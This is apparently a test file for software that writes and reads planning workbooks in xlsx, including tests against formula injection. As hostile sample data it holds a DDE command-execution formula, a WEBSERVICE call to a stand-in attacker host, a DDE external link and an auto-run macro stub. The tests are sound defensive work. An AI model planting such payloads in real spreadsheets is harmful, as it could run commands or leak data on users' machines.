import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runDocumentTask } from '#documents/run-document-task.ts';
import { readPlanWorkbook } from '#documents/read-plan-workbook.ts';
import { writePlanWorkbook } from '#documents/write-plan-workbook.ts';
import { compareWorkbook } from '#domain/planning/check-workbook.ts';
import { toDimensionKey } from '#domain/planning/line-dimensions.ts';
import { catalogueCodes, metricCatalogue } from '#domain/planning/metric-catalogue.ts';
import { unitDigits } from '#domain/planning/metric.ts';
import { readPlanValue } from '#domain/planning/plan-value.ts';
import { rowId, valueKey, type PlanWorkbook, type ReadWorkbook, type WorkbookRow } from '#domain/planning/plan-workbook.ts';
import { shiftMonth } from '#domain/period.ts';
import { openArchive } from '#documents/open-archive.ts';
import { readXmlPart } from '#documents/read-xml.ts';
import { metricNames } from '#texts/metric-names.ts';
import { findPeriodKey, periodHeading } from '#texts/plan-workbook.ts';
import { formatMonth } from '#texts/format.ts';
import { handMadeFile, headings, line, revenue, samplePlan } from './sample-workbook.ts';

/** The targets that a workbook holds. */
function valuesOf(plan: PlanWorkbook, read: ReadWorkbook): Map<string, unknown> {
  const values = new Map<string, unknown>();
  for (const { metric, months, rows } of read.sheets) {
    const described = plan.metrics.find(({ code }) => code === metric);
    for (const { id, cells } of rows) {
      months.forEach(({ month }, index) => {
        const cell = cells[index];
        if (typeof cell === 'string' && described !== undefined) values.set(valueKey(month, metric, id), readPlanValue(cell, described));
      });
    }
  }
  return values;
}

function compare(plan: PlanWorkbook, read: ReadWorkbook) {
  const { result, steps } = compareWorkbook(plan, read.sheets);
  for (const _step of steps);
  return result;
}

const dangerous = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '+7 916',
  '-5',
  '@SUM(A1)',
  '\tтаб',
  "'кавычка",
  '"',
  '<b>&amp;</b>',
  ']]>',
  '🙂👩‍👩‍👧',
  'я'.repeat(300),
];
/** No XML holds all of these, so they come back as somewhat shorter names. */
const unwritable = ['\uFFFD!', 'е\u0001\u0308', 'а\u000Bб\uFFFE\uD800'];
const anyName = fc.oneof(
  fc.constantFrom(...dangerous, ...unwritable),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const otherPeriods = ['2026-12-05', '2026-W49', '2026-Q4', '2026-H2', '2026', '2026-12-05--2026-12-20'];
const anyPlan = fc
  .record({
    names: fc.array(anyName, { minLength: 1, maxLength: 5 }),
    codes: fc.uniqueArray(fc.constantFrom(...catalogueCodes), { minLength: 1, maxLength: 3 }),
    months: fc.integer({ min: 1, max: 4 }),
    kind: fc.constantFrom('months', 'others'),
    amounts: fc.array(fc.option(fc.bigInt({ min: 0n, max: 10n ** 15n })), { minLength: 1, maxLength: 20 }),
    language: fc.constantFrom('ru', 'en'),
    isLocked: fc.boolean(),
  })
  .map(({ names, codes, months: count, kind, amounts, language, isLocked }) => {
    const keys =
      kind === 'months' ? Array.from({ length: count }, (_, index) => shiftMonth('2026-11', index)) : otherPeriods.slice(0, count + 2);
    const months = keys.map((month) => ({ month, workdays: 20, isLocked }));
    const metrics = codes.map((code) => {
      const { unit, overTime } = metricCatalogue[code];
      return { code, unit, isPerWorkday: overTime === 'per-workday', digits: unitDigits(unit, 2), largest: 10n ** 15n };
    });
    const [first] = samplePlan().rows;
    const rows = names.flatMap((name, index) => {
      const row = {
        ...first!,
        id: `person:${index + 1}`,
        scope: `person:${index + 1}`,
        name,
        department: name,
        isEditable: index % 2 === 0,
      };
      // A part stands on the sheet of the first metric only.
      const key = toDimensionKey({ brand: `${name}.`, client: `company:${index + 1}` });
      return [row, { ...row, id: rowId(row.scope, key), part: { key, metrics: codes.slice(0, 1) }, name: `${name}.` }];
    });
    const isOn = (code: string, row: WorkbookRow): boolean => row.part === null || row.part.metrics.includes(code);
    const places = months.flatMap(({ month }) =>
      codes.flatMap((code) => rows.filter((row) => isOn(code, row)).map(({ id }) => valueKey(month, code, id))),
    );
    const values = new Map(
      places.flatMap((key, at) => (amounts[at % amounts.length] == null ? [] : [[key, amounts[at % amounts.length]!] as const])),
    );
    return { plan: { currency: 'RUB', months, metrics, rows, values } as PlanWorkbook, language: language as 'ru' | 'en' };
  });

describe('a workbook that comes back as it went out', () => {
  it('holds the same plan, whatever its amounts, metrics and names', async () => {
    await fc.assert(
      fc.asyncProperty(anyPlan, async ({ plan, language }) => {
        const read = await readPlanWorkbook(await writePlanWorkbook(plan, language));
        expect(valuesOf(plan, read)).toEqual(plan.values);
        expect(compare(plan, read)).toEqual({
          changes: [],
          errors: [],
          warnings: [],
          unchanged: (plan.rows.length / 2) * (plan.metrics.length + 1),
        });
      }),
      { numRuns: 60 },
    );
  });

  it('does so through the thread in which the server reads and writes', async () => {
    const written = await runDocumentTask({ kind: 'write-plan', plan: samplePlan(), language: 'en' });
    const read = await runDocumentTask({ kind: 'read-plan', bytes: written.kind === 'written' ? written.bytes : Buffer.alloc(0) });
    expect(read.kind === 'read' && valuesOf(samplePlan(), read.workbook)).toEqual(samplePlan().values);
  });

  it('names every metric and every period so that both languages are found again', () => {
    for (const language of ['ru', 'en'] as const) {
      const names = Object.values(metricNames).map((name) => name[language]);
      expect(new Set(names).size).toBe(catalogueCodes.length);
      expect(names.filter((name) => name.length > 31 || /[[\]:*?/\\']/.test(name))).toEqual([]);
      for (let month = '2026-01'; month < '2028-01'; month = shiftMonth(month, 1))
        expect(findPeriodKey(formatMonth(month, language))).toBe(month);
      for (const key of otherPeriods) expect(findPeriodKey(periodHeading(key, language))).toBe(key);
    }
    expect(otherPeriods.filter((key) => key.length > 4).map(findPeriodKey)).toEqual(otherPeriods.filter((key) => key.length > 4));
    expect(['декабрь', 'декабрь 26', 'декабрь 2026 г', '12.2026', '', 'итого', '2026'].map(findPeriodKey)).toEqual(
      Array(7).fill(undefined),
    );
  });
});

/** Elements of a sheet with their types and texts. */
async function readElements(bytes: Buffer, path: string): Promise<string[]> {
  const found: string[] = [];
  await readXmlPart(
    await openArchive(bytes),
    path,
    { count: 0 },
    {
      open: (element, { t: type = 'n' }) => found.push(element === 'c' ? `c ${type}` : element),
      text: (text) => found.push(text),
    },
  );
  return found;
}

describe('T17: names that look like formulas', () => {
  it('are texts in a workbook of ours, and no cell is a formula', async () => {
    const rows = dangerous.map((name, index) => ({ ...samplePlan().rows[0]!, id: `person:${index + 1}`, name, department: name }));
    const bytes = await writePlanWorkbook(samplePlan({ rows }), 'ru');
    const elements = await readElements(bytes, 'xl/worksheets/sheet2.xml');
    expect(elements).toContain('c s');
    expect(elements.filter((element) => element === 'f' || element === 'c str')).toEqual([]);
    const read = await readPlanWorkbook(bytes);
    expect(read.sheets[0]?.rows.map(({ name }) => name)).toEqual(dangerous.map((name) => name.trim()));
  });

  it('keep a number a number', async () => {
    const bytes = handMadeFile(headings + line(2, 'person:4', '-5', '<c r="D2"><v>-5</v></c>'));
    const read = await readPlanWorkbook(bytes);
    expect(read.sheets[0]?.rows[0]).toMatchObject({ name: '-5', cells: ['-5'] });
    expect(compare(samplePlan(), read).errors).toMatchObject([{ cell: 'D2', code: 'negative', text: '-5' }]);
  });
});

describe('T17: formulas in a workbook that comes back', () => {
  it('are never looked at: only the value that was computed last counts', async () => {
    const links = { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' };
    const macros = { name: 'xl/vbaProject.bin', content: 'Sub Auto_Open()' };
    const cell = '<c r="D2"><f>[1]Лист!A1*WEBSERVICE("http://evil.example")</f><v>1300000.5</v></c>';
    const read = await readPlanWorkbook(handMadeFile(headings + line(2, 'person:4', 'Петров Иван', cell), [links, macros]));
    expect(read.sheets[0]?.rows[0]?.cells).toEqual(['1300000.5']);
  });

  it('without a value are told, and never taken for an empty cell', async () => {
    const read = await readPlanWorkbook(handMadeFile(headings + line(2, 'person:4', 'Петров Иван', '<c r="D2"><f>1+1</f></c>')));
    expect(compare(samplePlan(), read)).toMatchObject({ changes: [], errors: [{ cell: 'D2', code: 'formula-without-value' }] });
  });
});

describe('what a cell says', () => {
  const read = async (cell: string): Promise<unknown> =>
    (await readPlanWorkbook(handMadeFile(headings + line(2, 'person:4', 'x', cell)))).sheets[0]?.rows[0]?.cells[0];
  const typed = (value: string): Promise<unknown> => read(`<c r="D2"><v>${value}</v></c>`);
  const written = (value: string): Promise<unknown> => read(`<c r="D2" t="inlineStr"><is><t>${value}</t></is></c>`);

  it('is the number that Excel shows, not the rest of its binary fraction', async () => {
    expect(await typed('0.30000000000000004')).toBe('0.3');
    expect(await typed('1.2E+6')).toBe('1200000');
    expect(await typed('1.5E-7')).toBe('0.00000015');
    expect(await typed('9999999999999.99')).toBe('9999999999999.99');
    expect(await typed('')).toBe(null);
  });

  it('may be a number written as text, unless two readings of it differ', async () => {
    expect(await written('1 200\u00a0000,50')).toBe('1200000.50');
    expect(await written('1,200')).toEqual({ fault: 'not-a-number', text: '1,200' });
    expect(await written('около 5')).toEqual({ fault: 'not-a-number', text: 'около 5' });
  });

  it('is no number when it is an error, a truth value or not finite', async () => {
    expect(await read('<c r="D2" t="e"><v>#REF!</v></c>')).toEqual({ fault: 'not-a-number', text: '#REF!' });
    expect(await read('<c r="D2" t="b"><v>1</v></c>')).toEqual({ fault: 'not-a-number', text: '1' });
    expect(await typed('1e999')).toEqual({ fault: 'not-a-number', text: '1e999' });
    expect(await typed('NaN')).toEqual({ fault: 'not-a-number', text: 'NaN' });
  });

  it('keeps every amount that a plan may have', () => {
    fc.assert(
      fc.property(fc.bigInt({ min: 0n, max: 10n ** 15n }), fc.integer({ min: 0, max: 3 }), (amount, digits) => {
        const shown = String(Number(amount) / 10 ** digits);
        expect(readPlanValue(shown.includes('e') ? String(amount) : shown, { ...revenue, digits })).toBe(amount);
      }),
    );
  });
});
